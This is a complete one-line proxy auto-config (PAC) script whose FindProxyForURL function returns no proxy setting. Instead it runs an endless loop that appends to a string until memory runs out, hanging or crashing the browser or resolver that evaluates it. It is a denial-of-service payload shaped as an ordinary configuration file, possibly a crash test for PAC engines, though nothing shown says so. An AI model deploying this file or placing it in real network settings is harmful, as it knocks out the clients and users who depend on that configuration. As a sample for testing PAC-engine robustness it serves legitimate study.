function FindProxyForURL(u, h) { var s = "x"; for (;;) s +=!-s; }
